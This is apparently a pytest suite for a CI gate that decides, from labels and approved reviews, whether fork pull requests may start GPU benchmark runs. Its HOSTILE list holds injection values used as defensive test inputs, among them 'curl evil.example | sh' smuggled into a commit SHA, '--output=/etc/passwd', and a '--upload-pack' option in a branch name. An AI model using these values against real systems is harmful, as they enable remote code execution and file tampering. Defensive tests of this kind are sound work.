"""The pull-request gate (`ixci gha gate`) on recorded payloads and recorded API responses.

Each case is a real `pull_request_target` payload shape (tests/data/events/) and the REST
responses GitHub would give (tests/data/github/gate/); the assertions are on what the gate
wrote: the `ixci/gate` status, the dispatch of sweep.yml, the label removal.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import responses

from ixci.errors import UsageError
from ixci.github import gate

from .gateapi import RecordedApi, client
from .simulate import load_event

HEAD = "9b8a7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b"
BASE = "3f1c2a9d8e7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d"
MOVED = "c0ffee0d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a99"
THREE_JOBS = gate.PlanSummary(jobs=3, gpu_hours=12.5)


@pytest.fixture()
def rsps() -> Iterator[responses.RequestsMock]:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        yield mock


class Planner:
    """Stands in for the planner subprocess (the real one is exercised in test_gate_cli)."""

    def __init__(self, summary: gate.PlanSummary = THREE_JOBS) -> None:
        self.summary = summary
        self.calls: list[str] = []

    def __call__(self, event: gate.PullRequestEvent) -> gate.PlanSummary:
        self.calls.append(event.head_sha)
        return self.summary


def judge(
    rsps: responses.RequestsMock,
    event_file: str,
    *,
    plan: gate.PlanSummary = THREE_JOBS,
    **recorded: Any,
) -> tuple[gate.Outcome, RecordedApi, Planner]:
    api = RecordedApi(**recorded)
    api.install(rsps)
    planner = Planner(plan)
    event = gate.parse_event(load_event(event_file))
    outcome = gate.run(event, client(), planner, target_url="https://github.test/run/1")
    return outcome, api, planner


def only_status(api: RecordedApi) -> tuple[str, dict[str, Any]]:
    statuses = api.statuses()
    assert len(statuses) == 1, statuses
    sha, body = statuses[0]
    assert body["context"] == "ixci/gate"
    assert len(body["description"]) <= 140
    assert body["target_url"] == "https://github.test/run/1"
    return sha, body


# ---- forks without approval ----


def test_unapproved_fork_waits_for_approval(rsps: responses.RequestsMock) -> None:
    outcome, api, _ = judge(
        rsps, "pull_request_target.fork.opened.json", pull="pull-42.unlabelled.json"
    )
    sha, body = only_status(api)
    assert sha == HEAD and body["state"] == "pending"
    assert body["description"].startswith("awaiting approval: 3 job(s), 12.5 GPU-h")
    assert api.dispatches() == [] and api.removed_labels() == []
    assert outcome.approval is not None and not outcome.approval.refused


def test_deleted_fork_is_a_fork(rsps: responses.RequestsMock) -> None:
    _, api, _ = judge(
        rsps, "pull_request_target.fork-deleted.opened.json", pull="pull-42.unlabelled.json"
    )
    assert only_status(api)[1]["state"] == "pending" and api.dispatches() == []


# ---- the approval: label + a writer's approved review on exactly the head commit ----


def test_maintainer_label_with_approved_review_on_head_dispatches(
    rsps: responses.RequestsMock,
) -> None:
    outcome, api, _ = judge(rsps, "pull_request_target.fork.labeled-safe-to-bench.json")
    assert api.dispatches() == [
        {
            "ref": "main",
            "inputs": {"pr": "42", "sha": HEAD, "base": BASE, "approved-by": "octo-maintainer"},
        }
    ]
    assert [w.path for w in api.writes if w.path.endswith("/dispatches")] == [
        "/actions/workflows/sweep.yml/dispatches"
    ]
    sha, body = only_status(api)
    assert sha == HEAD and body["state"] == "pending"
    assert body["description"].startswith(f"benchmarking {HEAD[:12]}: 3 job(s)")
    assert api.removed_labels() == []  # the label stays as the record of this approval
    assert outcome.approval is not None and outcome.approval.by == "octo-maintainer"


def test_approved_then_pushed_is_not_approved(rsps: responses.RequestsMock) -> None:
    """The push moved the head: the old approval and the label approve nothing now."""
    outcome, api, planner = judge(
        rsps, "pull_request_target.fork.synchronize-after-approval.json", pull="pull-42.moved.json"
    )
    assert planner.calls == [MOVED]
    assert api.dispatches() == []
    sha, body = only_status(api)
    assert sha == MOVED and body["state"] == "pending"
    assert body["description"].startswith("awaiting approval")
    assert api.removed_labels() == ["safe-to-bench"]
    assert "removed `safe-to-bench`" in gate.summary_markdown(
        gate.parse_event(load_event("pull_request_target.fork.synchronize-after-approval.json")),
        outcome,
    )


def test_label_on_a_commit_that_has_moved_since_does_nothing(rsps: responses.RequestsMock) -> None:
    """The label's event names the old head; the queued push event judges the new one."""
    _, api, planner = judge(
        rsps, "pull_request_target.fork.labeled-safe-to-bench.json", pull="pull-42.moved.json"
    )
    assert api.writes == [] and planner.calls == []


def test_label_by_a_triage_user_is_refused(rsps: responses.RequestsMock) -> None:
    outcome, api, _ = judge(rsps, "pull_request_target.fork.labeled-by-triage.json")
    assert api.dispatches() == []
    assert api.removed_labels() == ["safe-to-bench"]
    _, body = only_status(api)
    assert body["state"] == "pending" and "tim-triage has triage permission" in body["description"]
    assert outcome.approval is not None and outcome.approval.refused
    assert "write, maintain or admin is needed" in outcome.approval.reason


def test_label_by_a_bot_is_refused_without_asking_its_permission(
    rsps: responses.RequestsMock,
) -> None:
    outcome, api, _ = judge(rsps, "pull_request_target.fork.labeled-by-bot.json")
    assert api.dispatches() == [] and api.removed_labels() == ["safe-to-bench"]
    assert not any("/permission" in r for r in api.reads)
    assert outcome.approval is not None and "a bot cannot approve" in outcome.approval.reason


def test_maintainer_whose_approval_is_on_an_older_commit_is_refused(
    rsps: responses.RequestsMock,
) -> None:
    outcome, api, _ = judge(
        rsps, "pull_request_target.fork.labeled-safe-to-bench.json",
        reviews="reviews-42.approved-older.json",
    )  # fmt: skip
    assert api.dispatches() == [] and api.removed_labels() == ["safe-to-bench"]
    assert outcome.approval is not None and outcome.approval.refused
    assert outcome.approval.reason.endswith(
        f"their approval is on 5d4c3b2a1f0e, the head is {HEAD[:12]}; approve the review on "
        f"{HEAD[:12]}, then label again"
    )


@pytest.mark.parametrize(
    ("reviews", "why"),
    [
        ("reviews-42.none.json", "no review"),
        ("reviews-42.approved-then-changes.json", "their latest review is CHANGES_REQUESTED"),
    ],
)
def test_label_without_a_standing_approval_is_refused(
    rsps: responses.RequestsMock, reviews: str, why: str
) -> None:
    outcome, api, _ = judge(
        rsps, "pull_request_target.fork.labeled-safe-to-bench.json", reviews=reviews
    )
    assert api.dispatches() == []
    assert outcome.approval is not None and why in outcome.approval.reason


def test_later_comment_does_not_undo_an_approval() -> None:
    """A COMMENTED review after the approval (recorded: 80004) leaves the approval standing."""
    from ixci.github.github_api import Review

    reviews = [
        Review(login="Octo-Maintainer", state="APPROVED", commit_id=HEAD, submitted_at=None),
        Review(login="octo-maintainer", state="COMMENTED", commit_id=HEAD, submitted_at=None),
    ]
    found = gate.latest_decisive_review(reviews, "octo-maintainer")
    assert found is not None and found.state == "APPROVED"


# ---- same-repository pull requests ----


def test_same_repository_push_by_a_writer_is_approved(rsps: responses.RequestsMock) -> None:
    _, api, _ = judge(rsps, "pull_request_target.same-repo.opened.json", pull="pull-43.json")
    assert [d["inputs"]["approved-by"] for d in api.dispatches()] == ["alice"]
    assert api.dispatches()[0]["inputs"]["pr"] == "43"


def test_same_repository_push_by_a_reader_waits(rsps: responses.RequestsMock) -> None:
    payload = load_event("pull_request_target.same-repo.opened.json")
    payload["sender"] = {"login": "mallory", "id": 99000001, "type": "User"}
    api = RecordedApi(pull="pull-43.json")
    api.install(rsps)
    gate.run(gate.parse_event(payload), client(), Planner(), target_url=None)
    assert api.dispatches() == [] and api.statuses()[0][1]["state"] == "pending"


# ---- drafts, unrelated labels, nothing to benchmark, broken plans ----


@pytest.mark.parametrize(
    "event_file",
    [
        "pull_request_target.fork.opened-draft.json",
        "pull_request_target.fork.converted_to_draft.json",
    ],
)
def test_drafts_are_skipped(rsps: responses.RequestsMock, event_file: str) -> None:
    _, api, planner = judge(rsps, event_file, pull="pull-42.draft.json")
    assert planner.calls == [] and api.dispatches() == []
    _, body = only_status(api)
    assert body["state"] == "pending" and body["description"].startswith("draft:")


def test_ready_for_review_is_judged_like_a_new_pull_request(rsps: responses.RequestsMock) -> None:
    _, api, planner = judge(
        rsps, "pull_request_target.fork.ready_for_review.json", pull="pull-42.unlabelled.json"
    )
    assert planner.calls == [HEAD] and only_status(api)[1]["description"].startswith("awaiting")


@pytest.mark.parametrize(
    "event_file",
    [
        "pull_request_target.fork.labeled-other.json",
        "pull_request_target.same-repo.labeled-other.json",
    ],
)
def test_unrelated_labels_change_nothing(rsps: responses.RequestsMock, event_file: str) -> None:
    _, api, planner = judge(rsps, event_file)
    assert api.writes == [] and planner.calls == []


def test_zero_job_plan_goes_green_with_the_reason(rsps: responses.RequestsMock) -> None:
    nothing = gate.PlanSummary(
        jobs=0, notes=("docs/workflows.md: not a benchmark input (no job selected)",)
    )
    outcome, api, _ = judge(rsps, "pull_request_target.fork.opened.json", plan=nothing)
    _, body = only_status(api)
    assert body["state"] == "success"
    assert body["description"] == (
        "nothing to benchmark: docs/workflows.md: not a benchmark input (no job selected)"
    )
    assert api.dispatches() == [] and outcome.approval is None


def test_a_plan_that_fails_fails_the_gate(rsps: responses.RequestsMock) -> None:
    broken = gate.PlanSummary(error="matrix/recipes/x.yaml:3:1: engine: unknown 'vlm'")
    _, api, _ = judge(rsps, "pull_request_target.fork.opened.json", plan=broken)
    _, body = only_status(api)
    assert body["state"] == "failure" and "unknown 'vlm'" in body["description"]


def test_reopened_with_an_old_label_removes_it(rsps: responses.RequestsMock) -> None:
    _, api, _ = judge(rsps, "pull_request_target.fork.reopened-with-label.json")
    assert api.removed_labels() == ["safe-to-bench"] and api.dispatches() == []


def test_long_descriptions_are_cut_to_githubs_140() -> None:
    event = gate.parse_event(load_event("pull_request_target.fork.opened.json"))
    from ixci.github.github_api import PullState

    pull = PullState(number=42, state="open", draft=False, head_sha=HEAD, base_sha=BASE,
                     head_repository="mallory/ixci", labels=())  # fmt: skip
    plan = gate.PlanSummary(
        jobs=0, notes=tuple(f"file{i}.md: not a benchmark input" for i in range(30))
    )
    decision = gate.decide(event, pull, plan, None)
    from ixci.github.github_api import shorten

    assert len(decision.description) > 140 and len(shorten(decision.description, 140)) == 140


# ---- the final status after the benchmark run (sweep.yml report) ----


@pytest.mark.parametrize(
    ("plan", "collect", "shards", "state"),
    [
        ("success", "success", '["shard-0"]', "success"),
        ("success", "failure", '["shard-0"]', "failure"),
        ("success", "skipped", "[]", "success"),
        ("failure", "skipped", "", "failure"),
        ("success", "cancelled", '["shard-0"]', "error"),
        ("cancelled", "skipped", "", "error"),
        ("success", "skipped", '["shard-0"]', "failure"),  # jobs planned, nothing collected
    ],
)
def test_final_status(plan: str, collect: str, shards: str, state: str) -> None:
    got, description = gate.final_status(
        plan_result=plan, collect_result=collect, shards=shards, sha=HEAD
    )
    assert got == state and HEAD[:12] in description and len(description) <= 140


# ---- hostile payloads: every value is checked before use ----

HOSTILE: list[tuple[str, Any]] = [
    ("pull_request.head.sha", "9b8a7c6d; curl evil.example | sh"),
    ("pull_request.head.sha", "9B8A7C6D5E4F3A2B1C0D9E8F7A6B5C4D3E2F1A0B"),
    ("pull_request.base.sha", "--output=/etc/passwd"),
    ("pull_request.number", "42"),
    ("pull_request.number", True),
    ("pull_request.number", -1),
    ("sender.login", "octo maintainer"),
    ("sender.login", "octo\nmaintainer"),
    ("sender.login", "../../admin"),
    ("repository.full_name", "ixci-dev/ixci/../../other"),
    ("repository.default_branch", "main\n--upload-pack=x"),
    ("repository.default_branch", "../main"),
    ("pull_request.head.repo.full_name", "mallory/ixci x"),
]


@pytest.mark.parametrize(("where", "value"), HOSTILE, ids=[f"{w}={v!r}" for w, v in HOSTILE])
def test_hostile_payload_values_are_refused(where: str, value: Any) -> None:
    payload = load_event("pull_request_target.fork.labeled-safe-to-bench.json")
    node: Any = payload
    *parents, leaf = where.split(".")
    for key in parents:
        node = node[key]
    node[leaf] = value
    with pytest.raises(UsageError) as info:
        gate.parse_event(payload)
    assert where.rsplit(".", 1)[0].split(".")[0] in info.value.message


def test_hostile_response_values_are_refused(rsps: responses.RequestsMock, tmp_path: Path) -> None:
    from ixci.errors import GitHubError

    bad = json.loads((Path(__file__).parents[1] / "data/github/gate/pull-42.json").read_text())
    bad["head"]["sha"] = "not-a-sha"
    rsps.add(responses.GET, "https://api.github.test/repos/ixci-dev/ixci/pulls/42", json=bad)
    with pytest.raises(GitHubError, match=r"head\.sha"):
        client().pull(42)


def test_a_non_collaborator_label_is_refused(rsps: responses.RequestsMock) -> None:
    """The permission endpoint answers 404 for a non-collaborator: no permission, refused."""
    payload = load_event("pull_request_target.fork.labeled-safe-to-bench.json")
    payload["sender"] = {"login": "stranger", "id": 123, "type": "User"}
    api = RecordedApi()
    api.install(rsps)
    outcome = gate.run(gate.parse_event(payload), client(), Planner(), target_url=None)
    assert api.dispatches() == [] and outcome.approval is not None
    assert "stranger has none permission" in outcome.approval.reason
